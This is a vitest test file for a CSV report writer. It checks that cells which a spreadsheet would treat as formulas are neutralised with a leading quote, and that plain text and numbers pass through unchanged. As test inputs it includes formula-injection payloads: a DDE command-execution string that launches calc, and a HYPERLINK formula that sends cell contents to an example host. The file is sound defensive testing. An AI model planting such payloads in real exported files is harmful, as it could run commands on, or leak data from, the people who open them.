import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { type CsvCell, csvText } from '../../src/report/formats/csv-cells.js';

const read = (text: string, delimiter = ','): string[][] => parse(text, { delimiter, relax_quotes: true });

/** What a cell comes to for whoever opens the file: with cells that end at commas, and a cell on either side. */
const shown = (cell: CsvCell): string | undefined => read(csvText([['before', cell, 'after']]))[0]?.[1];

const STARTS_FORMULA = /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

describe('a text that a spreadsheet would run', () => {
  it.each([
    ['=HYPERLINK("http://example.com/?q="&A1,"click")'],
    ['=1+1'],
    ['+1+1'],
    ['-1+1'],
    ['@SUM(A1:A9)'],
    ["=cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['  =1+1'],
    ['\u00a0=1+1'],
    ['\u200b=1+1'],
    ['"=1+1'],
    ['＝1+1'],
    ['＋1'],
    ['－1'],
    ['＠SUM(A1)'],
  ])('gets a single quote before it, inside its cell: %j', (text) => {
    const cell = shown(text);
    expect(cell?.startsWith("'")).toBe(true);
    expect(csvText([[text]])).toMatch(/^"'/);
    // It is all there, without what no terminal shows.
    expect(cell?.slice(1).trim()).toBe(text.replace(/[\t\r\n\u200b]/g, '').trim());
  });

  it.each([['a;=1+1;b'], ['a; =1+1'], ['a;"=1+1";b'], ['a;;-1'], ['=1;+1;@1'], [';"\'=1']])(
    'does not begin a cell where they end at semicolons either: %j',
    (text) => {
      for (const row of [[text], ['before', text, 'after']]) {
        const cells = read(csvText([row]), ';')[0] ?? [];
        expect(cells.filter((cell) => STARTS_FORMULA.test(cell))).toEqual([]);
      }
    },
  );

  it.each([['a=b'], ['42/17'], ['p99 < 1'], ['a - b'], ['x@y'], ["it's"], [''], ['a; b']])(
    'is told from one that is none: %j',
    (text) => {
      expect(shown(text)).toBe(text);
    },
  );
});

describe('numbers', () => {
  it.each([[-1], [-0.5], [1e300], [-1e-7], [0]])('stay numbers: %d', (number) => {
    expect(csvText([[number]])).toBe(`${number}\r\n`);
  });

  it('as text are text, which a sign may make a formula', () => {
    expect(csvText([['-1', '1']])).toBe(`"'-1",1\r\n`);
  });
});
